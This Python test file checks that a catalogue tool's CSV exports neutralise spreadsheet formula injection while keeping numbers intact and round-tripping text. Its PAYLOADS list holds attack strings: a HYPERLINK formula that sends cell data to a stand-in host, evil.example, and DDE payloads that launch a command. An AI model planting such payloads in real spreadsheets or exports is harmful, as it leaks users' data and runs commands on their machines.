"""CSV formula injection (OWASP): no CSV the catalogue writes starts a cell with a character a
spreadsheet runs as a formula, whichever writer made it; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json
import re

import pandas as pd
import pytest
import yaml

from catalogue_lib.cli import main
from catalogue_lib.present import csv_of

from .conftest import valid_record

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _formula(cell: str) -> bool:
    """A cell a spreadsheet would run: a dangerous first character, and not a plain number."""
    return cell.startswith(DANGEROUS) and not re.fullmatch(r"-?[0-9.]+", cell)


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def _catalogue(tmp_path, payload):
    folder = tmp_path / "cat"
    folder.mkdir()
    rec = valid_record(owner=payload, support_contact=payload, partner=payload)
    (folder / "a.yaml").write_text(yaml.safe_dump(rec))
    return folder


@pytest.mark.parametrize("payload", PAYLOADS)
def test_export_csv_neutralises_formulas(tmp_path, capsys, payload):
    folder = _catalogue(tmp_path, payload)
    assert main(["export", str(folder), "--format", "csv"]) == 0
    cells = _cells(capsys.readouterr().out)
    assert not [c for c in cells if _formula(c)], cells
    core = payload.strip().replace("|", "\\|")
    assert [c for c in cells if c.startswith("'") and c.endswith(core)], cells  # kept, as text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_backlog_csv_neutralises_formulas_and_keeps_negative_numbers(tmp_path, capsys, payload):
    folder = _catalogue(tmp_path, payload)
    assert main(["backlog", str(folder), "--as-of", "2027-03-01", "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
    assert rows
    for row in rows:
        assert not [v for v in row.values() if _formula(v)], row
    assert any(re.fullmatch(r"-[0-9]+", r["days"]) for r in rows)  # overdue: a number still


def test_download_button_csv_neutralises_formulas_and_keeps_numbers():
    df = pd.DataFrame(
        {
            "name": PAYLOADS,
            "days": [-3, 4, -5, 6, 7, 8],
            "score": [1.5, -2.25, 3.0, 4.0, 5.0, 6.0],
            "hidden": ["x"] * 6,
        }
    )
    text = csv_of(df, hidden=["hidden"]).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows[0]) == 3  # the hidden column is left out; headers as the page shows them
    names = [r[0] for r in rows[1:]]
    assert not [n for n in names if _formula(n)], names
    assert [r[1] for r in rows[1:]] == ["-3", "4", "-5", "6", "7", "8"]
    assert [r[2] for r in rows[1:]] == ["1.5", "-2.25", "3.0", "4.0", "5.0", "6.0"]


ROUND_TRIP = [
    "=HYPERLINK(1)",
    "+Partner",
    "-Team Minus",
    "@support",
    "|lead pipe",
    "%Percent",
    "=a|b|c",
    "=a\\|b",  # a backslash before a pipe, written by hand
    "'=already marked",  # an apostrophe the author typed stays
    "''=two marks",
    "'plain apostrophe",
    "-12",  # a number-looking cell is not marked
]


@pytest.mark.parametrize("text", ROUND_TRIP)
def test_a_csv_export_loads_back_with_the_text_as_written(tmp_path, capsys, text):
    """The mark that keeps a spreadsheet from running a cell is not part of the value: an
    exported CSV, read again as a catalogue, holds the owner, partner and contact written."""
    folder = _catalogue(tmp_path, text)
    assert main(["export", str(folder), "--format", "csv"]) == 0
    again = tmp_path / "again"
    again.mkdir()
    (again / "export.csv").write_text(capsys.readouterr().out)
    assert main(["export", str(again), "--format", "json"]) == 0
    (record,) = json.loads(capsys.readouterr().out)
    assert (record["owner"], record["partner"], record["support_contact"]) == (text,) * 3
